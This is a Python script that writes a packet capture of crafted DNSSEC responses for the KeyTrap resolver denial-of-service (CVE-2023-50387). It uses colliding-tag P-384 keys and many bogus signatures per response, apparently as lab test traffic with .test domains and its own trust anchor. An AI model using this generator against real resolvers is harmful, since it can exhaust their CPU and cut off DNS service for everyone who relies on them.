#!/usr/bin/python3
"""Writes a KeyTrap (CVE-2023-50387) in which no message is like another: keytrap.py FRAMES >FILE; its anchor:
keytrap.py anchor >FILE

Six keys of P-384, the slowest to check, share a tag; every response holds four RRsets that were not seen
before, with sixteen signatures by nobody each. Packet time stands nearly still. Needs python3-cryptography."""
import os
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "scenarios"))
from hostile import (A, BAD, NOW, ROOT, RRSIG, begin, colliding_keys_p384, bad_keys, good, message, noise,  # noqa: E402
                     rr, rrsig)


def trap(i):
    answer = []
    for k in range(4):
        owner = f"h{i}-{k}.bad.test."
        answer += [rr(owner, A, b"\xc0\0\2\1")] + \
            [rr(owner, RRSIG, rrsig(A, 14, owner, BAD.apex, 815, noise(f"{i} {k} {s}", 96))) for s in range(16)]
    return message(f"h{i}-0.bad.test.", A, answer)


def main():
    if sys.argv[1] == "anchor":
        print(f". IN DS {ROOT.tag} 15 2 {ROOT.ds()[4:].hex().upper()}")
        return
    c = begin()
    good(c, "www.good.test.")
    bad_keys(c, *colliding_keys_p384())
    for i in range(int(sys.argv[1]) // 2):
        c.ask(f"h{i}-0.bad.test.", A, trap(i))
    good(c, "late.good.test.")
    out = sys.stdout.buffer
    out.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 262144, 1))
    for count, frame in enumerate(c.frames):
        out.write(struct.pack("<IIII", NOW + count // 20000, count % 20000 * 50, len(frame), len(frame)) + frame)


main()
